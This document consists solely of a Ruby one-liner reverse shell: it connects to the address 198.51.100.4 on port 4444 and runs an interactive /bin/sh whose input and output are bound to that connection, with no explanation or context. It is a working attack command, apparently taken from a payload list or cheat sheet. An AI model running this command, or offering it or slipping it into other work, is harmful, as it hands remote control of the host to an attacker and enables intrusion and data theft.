ruby -rsocket -e'f=TCPSocket.open("198.51.100.4",4444).to_i;exec sprintf("/bin/sh -i <&%d >&%d 2>&%d",f,f,f)'
